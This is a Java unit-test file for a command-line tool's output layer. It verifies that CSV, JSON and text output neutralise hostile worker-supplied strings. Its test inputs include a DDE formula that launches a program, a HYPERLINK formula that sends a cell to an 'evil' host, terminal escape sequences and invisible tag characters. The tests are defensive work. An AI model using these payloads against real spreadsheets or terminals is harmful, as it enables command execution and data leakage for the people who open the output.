package dev.outpost.cli;

import static org.assertj.core.api.Assertions.assertThat;

import dev.outpost.Json;
import dev.outpost.Request;
import dev.outpost.Response;
import java.io.PrintWriter;
import java.io.StringWriter;
import java.time.Instant;
import java.util.List;
import org.junit.jupiter.api.Test;

class OutputTest {
    @Test
    void aCsvCellFromAHostileWorkerCannotDriveTheTerminalOrRunAsAFormula() {
        GlobalOptions csv = new GlobalOptions();
        csv.format = GlobalOptions.Format.csv;
        StringWriter text = new StringWriter();
        Output out = new Output(csv, new PrintWriter(text), new PrintWriter(new StringWriter()), 1);
        Instant now = Instant.now();
        // a worker id is whatever the worker says it is, short of control characters (refused when decoded); Jackson
        // leaves C1 and bidi characters unescaped in the result
        out.answer(Response.ok(Request.builder("x").build(), Json.object().textNode("a\u009B31mb\u202Ec\t\u001B]0;pwned\u0007"),
                " =cmd|' /C calc'!A0\u202E", 1, now, now));
        out.finish(List.of());
        String row = text.toString().lines().toList().get(1);
        assertThat(row).doesNotContain("\u001B", "\u0007", "\u009B", "\u202E", "\t");
        assertThat(row).as("the worker cell is text to a spreadsheet").matches("'\\s*=cmd.*");
    }

    @Test
    void aCsvCellHoldingASemicolonIsQuotedSoNoSpreadsheetSplitsAFormulaOutOfIt() {
        // spreadsheets in locales whose list separator is ';' (most of Europe) split an unquoted line there: the part
        // after the ';' starts a cell of its own, and '=...' in it is a formula no prefix of the whole cell neutralises
        assertThat(Output.csv("disk full;=HYPERLINK(\"http://evil/\"&A1)")).startsWith("\"").endsWith("\"");
        assertThat(Output.csv("x;@SUM(1)")).isEqualTo("\"x;@SUM(1)\"");
        assertThat(Output.csv("plain")).isEqualTo("plain");
    }

    @Test
    void jsonOutputEscapesWhatWouldDriveTheTerminalAndStaysTheSameDocument() throws Exception {
        String hostile = "a\u009B31mb\u202Ec\u2028d\u0085é€";
        for (GlobalOptions.Format format : List.of(GlobalOptions.Format.jsonl, GlobalOptions.Format.json)) {
            GlobalOptions options = new GlobalOptions();
            options.format = format;
            StringWriter text = new StringWriter();
            Output out = new Output(options, new PrintWriter(text), new PrintWriter(new StringWriter()), 1);
            Instant now = Instant.now();
            out.answer(Response.ok(Request.builder("x").build(), Json.object().textNode(hostile), "w\u202E1", 1, now, now));
            out.finish(List.of());
            String printed = text.toString();
            assertThat(printed).as(format.name()).doesNotContain("\u009B", "\u202E", "\u2028", "\u0085")
                    .contains("\\u009b", "\\u202e", "é€");
            com.fasterxml.jackson.databind.JsonNode doc = Json.parse(printed);
            com.fasterxml.jackson.databind.JsonNode answer = doc.isArray() ? doc.get(0) : doc;
            assertThat(answer.get("result").asText()).isEqualTo(hostile);
            assertThat(answer.get("worker").asText()).isEqualTo("w\u202E1");
        }
    }

    @Test
    void formatCharactersBeyondTheBasicPlaneAreBlankedToo() {
        // tag characters (U+E0000..U+E007F) are format characters outside the BMP: invisible on a terminal, they carry
        // text a person does not see ("ASCII smuggling"); checked one char at a time, their surrogate halves passed
        String smuggled = "ok" + new String(Character.toChars(0xE0001)) + new String(Character.toChars(0xE0041))
                + new String(Character.toChars(0x1D173)) + "!";
        assertThat(Output.printable(smuggled)).isEqualTo("ok   !");
        assertThat(Output.printable("emoji \uD83D\uDE00 stays")).isEqualTo("emoji \uD83D\uDE00 stays");
        assertThat(Output.csv(smuggled)).isEqualTo("ok   !");
    }

    @Test
    void jsonOutputEscapesDelete() {
        // Jackson's table escapes C0 only, and ASCII never reaches the custom escapes: DEL went out raw
        String printed = Output.json(Json.object().put("v", "a\u007Fb"));
        assertThat(printed).doesNotContain("\u007F").containsIgnoringCase("\\u007f");
        assertThat(Json.parse(printed).path("v").asText()).isEqualTo("a\u007Fb");
    }

    @Test
    void aMultiLineReplyKeepsItsLinesAndLosesItsControls() {
        assertThat(Output.printableLines("one\u009B2J\ntwo\u202E")).isEqualTo("one 2J" + System.lineSeparator() + "two ");
    }

    @Test
    void aWorkerWhoseAnswerWasPrintedIsNeverAlsoListedAsMissing() {
        // the broadcast computes who is missing, then calls finish: an answer printed in between is not missing
        GlobalOptions text = new GlobalOptions();
        text.format = GlobalOptions.Format.text;
        StringWriter err = new StringWriter();
        Output out = new Output(text, new PrintWriter(new StringWriter()), new PrintWriter(err), 2);
        Instant now = Instant.now();
        out.answer(Response.ok(Request.builder("x").build(), Json.object(), "demo-2", 1, now, now));
        out.finish(List.of("demo-2", "demo-3"));
        assertThat(err.toString()).contains("no answer from demo-3").doesNotContain("demo-2");
    }

    /** Prints one answer whose result is large; returns only a weak reference to that result. */
    private static java.lang.ref.WeakReference<Object> printLargeAnswer(Output out, int n) {
        Instant now = Instant.now();
        Response r = Response.ok(Request.builder("x").build(), Json.object().put("blob", "x".repeat(100_000)), "made-up-" + n, 1,
                now, now);
        out.answer(r);
        return new java.lang.ref.WeakReference<>(r.result().orElseThrow()); // the answer's own result: it may be a copy
    }

    @Test
    void noFormatKeepsAnAnswerOnceItWasPrinted() {
        // a flood of large answers under made-up worker ids grew the command line's memory until the deadline: every
        // answer was kept to the end, though only json needed them there
        for (GlobalOptions.Format format : GlobalOptions.Format.values()) {
            GlobalOptions options = new GlobalOptions();
            options.format = format;
            StringWriter text = new StringWriter();
            Output out = new Output(options, new PrintWriter(text), new PrintWriter(new StringWriter()), 3);
            java.lang.ref.WeakReference<Object> first = printLargeAnswer(out, 1);
            printLargeAnswer(out, 2);
            for (int i = 0; i < 50 && first.get() != null; i++) {
                System.gc(); // a full collection clears every weak reference to what nothing else holds
            }
            assertThat(first.get() == null).as(format + ": the first result, printed, is let go").isTrue();
            assertThat(out.finish(List.of("made-up-1", "demo-3"))).isEqualTo(ExitCodes.SOME_FAILED);
            assertThat(text.toString()).as(format.name()).contains("made-up-1", "made-up-2", "x".repeat(50));
        }
    }

    @Test
    void theJsonArrayWrittenAsAnswersArriveIsTheOneWrittenAtTheEndBefore() {
        GlobalOptions json = new GlobalOptions();
        json.format = GlobalOptions.Format.json;
        StringWriter none = new StringWriter();
        new Output(json, new PrintWriter(none), new PrintWriter(new StringWriter()), 2).finish(List.of());
        assertThat(none.toString()).isEqualTo(Output.prettyJson(Json.array()) + System.lineSeparator());

        StringWriter text = new StringWriter();
        Output out = new Output(json, new PrintWriter(text), new PrintWriter(new StringWriter()), 2);
        Instant now = Instant.now();
        Request request = Request.builder("x").build();
        Response one = Response.ok(request, Json.parse("{\"a\":[1,{\"b\":[]}],\"c\":{}}"), "w1", 1, now, now);
        Response two = Response.ok(request, Json.array().add("\u202E").add(Json.object()), "w2", 1, now, now);
        out.answer(one);
        out.answer(two);
        out.finish(List.of());
        assertThat(text.toString()).isEqualTo(
                Output.prettyJson(Json.array().add(Output.document(one)).add(Output.document(two))) + System.lineSeparator());
    }
}
